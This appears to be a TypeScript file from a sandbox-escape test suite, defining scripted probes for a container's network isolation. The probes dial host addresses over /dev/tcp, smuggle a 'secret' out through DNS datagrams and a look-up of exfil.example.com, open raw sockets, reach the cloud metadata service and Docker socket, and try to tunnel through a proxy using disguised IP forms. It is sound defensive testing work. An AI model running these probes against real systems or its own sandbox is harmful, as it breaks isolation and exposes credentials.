import type { Attack } from '../attack.ts'

export interface Target {
  readonly host: string
  readonly port: number
}

/** The one port that every sandbox may reach: what dials has been seen to work. */
const way = { host: '127.0.0.1', port: 3128 }

const opens = ({ host, port }: Target) =>
  `timeout 3 bash -c '</dev/tcp/${host}/${port}' 2>/dev/null`

/** `WON` for each address at which a TCP connection opens. */
export const dialling = (targets: readonly Target[]) => `
${opens(way)} && echo CONTROL
${targets.map((target) => `${opens(target)} && echo 'WON ${target.host}:${target.port}'`).join('\n')}
true`

/** A datagram that carries a secret, as a look-up of a name would, and the look-up itself. */
const smuggling = (targets: readonly Target[]) => `
python3 - <<'END'
import socket
packet = bytes.fromhex('123401000001000000000000') + b'\\x06secret\\x07example\\0' + bytes.fromhex('00010001')
def send(host, port):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, (host, port))
        return True
    except OSError:
        return False
if send('127.0.0.1', 9): print('CONTROL')
for host, port in ${JSON.stringify(targets.map(({ host, port }) => [host, port]))}:
    if send(host, port): print('WON a datagram to', host)
END
timeout 5 getent hosts c2VjcmV0.exfil.example.com >/dev/null && echo 'WON a look-up'
true`

const opening = `
python3 - <<'END'
import socket
def opens(*kind):
    try:
        socket.socket(*kind)
        return True
    except OSError:
        return False
if opens(socket.AF_INET, socket.SOCK_STREAM): print('CONTROL')
if opens(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP): print('WON a raw socket')
if opens(socket.AF_PACKET, socket.SOCK_RAW, 3): print('WON a packet socket')
END`

/** Asks the proxy at the one way out for a tunnel and for a page; any success is a way out. */
const asking = (authorities: readonly string[]) => `
python3 - <<'END'
import socket
def ask(request):
    try:
        way = socket.create_connection(('127.0.0.1', 3128), 5)
        way.settimeout(10)
        way.sendall(request.encode())
        return way.recv(4096).decode('latin1')
    except OSError as problem:
        return str(problem)
if 'blocked_by_policy' in ask('CONNECT never.invalid:443 HTTP/1.1\\r\\nHost: never.invalid:443\\r\\n\\r\\n'):
    print('CONTROL')
for to in ${JSON.stringify(authorities)}:
    tunnel = ask(f'CONNECT {to} HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n')
    page = ask(f'GET http://{to}/ HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n')
    if tunnel.startswith(('HTTP/1.1 200', 'HTTP/1.0 200')): print('WON a tunnel to', to)
    if page.startswith('HTTP/') and 'blocked_by_policy' not in page: print('WON an answer from', to)
END`

/** A careless program of this machine listens there. */
export const dialsHost = (targets: readonly Target[]): Attack => ({
  family: 'host-reach',
  title: 'dials this machine by every address it has',
  script: dialling(targets),
})

export const smugglesByDns = (targets: readonly Target[]): Attack => ({
  family: 'dns',
  title: 'smuggles data out through DNS and other datagrams',
  // A datagram to its own loopback leaves nothing.
  script: smuggling([
    ...targets.filter(({ host }) => !host.startsWith('127.')),
    { host: '8.8.8.8', port: 53 },
  ]),
})

export const opensRawSockets: Attack = {
  family: 'host-reach',
  title: 'opens sockets that could forge packets',
  script: opening,
}

export const dialsMetadata: Attack = {
  family: 'metadata',
  title: 'asks the cloud for its credentials at 169.254.169.254',
  script: dialling([{ host: '169.254.169.254', port: 80 }]),
}

export const dialsOrchestrator = (targets: readonly Target[]): Attack => ({
  family: 'orchestrator-reach',
  title: 'dials the orchestrator, and looks for the engine’s socket',
  script: `${dialling(targets)}
curl -s -m 3 --unix-socket /var/run/docker.sock http://engine/_ping >/dev/null 2>&1 && echo 'WON the engine'
find / -xdev -type s 2>/dev/null | sed 's/^/WON the socket /'`,
})

export const asksProxy = (authorities: readonly string[]): Attack => ({
  family: 'proxy-refusals',
  title: 'asks the one way out for the orchestrator, this machine and the cloud',
  script: asking([...authorities, '169.254.169.254:80', '2852039166:80', '[::ffff:7f00:1]:22']),
})
